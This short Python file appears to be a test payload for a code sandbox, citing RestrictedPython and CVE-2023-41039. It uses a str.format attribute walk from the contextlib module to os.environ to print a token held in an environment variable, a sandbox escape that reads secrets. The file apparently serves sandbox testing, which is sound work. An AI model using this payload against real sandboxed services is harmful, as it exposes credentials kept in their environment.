# technique: str.format walks from a module to the environment
# goal: env
# source: RestrictedPython, CVE-2023-41039
import contextlib
print('{0.os.environ[PYSBX_TEST_TOKEN]}'.format(contextlib))
